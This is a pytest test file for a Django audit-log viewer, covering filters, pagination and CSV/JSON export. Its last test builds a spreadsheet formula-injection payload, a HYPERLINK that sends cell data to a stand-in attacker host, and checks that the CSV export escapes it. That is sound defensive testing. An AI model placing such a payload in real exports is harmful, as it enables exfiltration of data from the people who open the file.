from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.utils import timezone

from controlplane.accounts.actors import Actor
from controlplane.audit.record import record

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def entries(db: None) -> None:
    record(
        Actor.system("alice"),
        "policy.update",
        environment="production",
        kind="breaker",
        name="payments",
        reason="slow upstream",
        changes={"open_for": [30, 60]},
    )
    record(
        Actor.system("bob"),
        "policy.create",
        environment="staging",
        kind="cache",
        name="prices",
        reason="new cache",
    )
    old = record(
        Actor.system("carol"),
        "override.set",
        environment="production",
        kind="breaker",
        name="payments",
        reason="incident 42",
    )
    # The product cannot edit entries; backdate this one with plain SQL.
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE audit_auditentry SET at = %s WHERE id = %s",
            [timezone.now() - timedelta(days=3), old.pk],
        )


def _actions(client: Client, query: str) -> list[str]:
    html = client.get("/audit/" + query).content.decode()
    return [part.split('"')[0] for part in html.split('<tr data-action="')[1:]]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["policy.create", "policy.update", "override.set"]),
        ("?actor=alice", ["policy.update"]),
        ("?environment=production", ["policy.update", "override.set"]),
        ("?kind=cache", ["policy.create"]),
        ("?object=payments", ["policy.update", "override.set"]),
        ("?action=override", ["override.set"]),
        ("?q=upstream", ["policy.update"]),
        (
            "?since=2000-01-01&until=" + "2100-01-01",
            ["policy.create", "policy.update", "override.set"],
        ),
    ],
)
def test_filters(
    client: Client, viewer: User, entries: None, query: str, expected: list[str]
) -> None:
    client.force_login(viewer)
    assert _actions(client, query) == expected


def test_time_range_excludes_older_entries(client: Client, viewer: User, entries: None) -> None:
    client.force_login(viewer)
    since = (timezone.now() - timedelta(days=1)).strftime("%Y-%m-%d %H:%M")
    assert "override.set" not in _actions(client, f"?since={since}")


def test_bad_filter_value_is_reported(client: Client, viewer: User, entries: None) -> None:
    client.force_login(viewer)
    html = client.get("/audit/?since=yesterday").content.decode()
    assert "Enter a valid date/time" in html
    assert _actions(client, "?since=yesterday") == []


def test_csv_export_follows_the_filter(client: Client, viewer: User, entries: None) -> None:
    client.force_login(viewer)
    response = client.get("/audit/export.csv?environment=production")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["action"] for r in rows] == ["policy.update", "override.set"]
    assert json.loads(rows[0]["changes"]) == {"open_for": [30, 60]}


def test_json_export(client: Client, viewer: User, entries: None) -> None:
    client.force_login(viewer)
    response = client.get("/audit/export.json?actor=bob")
    rows = json.loads(b"".join(response.streaming_content))
    assert [(r["actor_name"], r["object_name"], r["reason"]) for r in rows] == [
        ("bob", "prices", "new cache")
    ]


def test_unknown_export_format_is_404(client: Client, viewer: User) -> None:
    client.force_login(viewer)
    assert client.get("/audit/export.xml").status_code == 404


def test_pagination(client: Client, viewer: User, db: None) -> None:
    for number in range(60):
        record(Actor.system("bot"), "policy.update", environment="production", name=f"p{number}")
    client.force_login(viewer)
    first = client.get("/audit/").content.decode()
    second = client.get("/audit/?page=2").content.decode()
    assert first.count('<tr data-action="') == 50 and second.count('<tr data-action="') == 10
    assert "Page 1 of 2 (60 entries)" in first


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_escapes_cells_a_spreadsheet_would_run(
    client: Client, viewer: User, db: None, start: str
) -> None:
    formula = start + 'HYPERLINK("https://evil.example/?"&A1,"click")'
    record(
        Actor.system(start + "mallory"),
        "override.set",
        environment="production",
        kind="breaker",
        name="payments",
        reason=formula,
    )
    client.force_login(viewer)
    response = client.get("/audit/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["reason"] == "'" + formula
    assert rows[0]["actor_name"] == "'" + start + "mallory"
    assert rows[0]["action"] == "override.set"  # other cells are left as they are
    json_rows = json.loads(b"".join(client.get("/audit/export.json").streaming_content))
    assert json_rows[0]["reason"] == formula  # JSON is data, not a spreadsheet
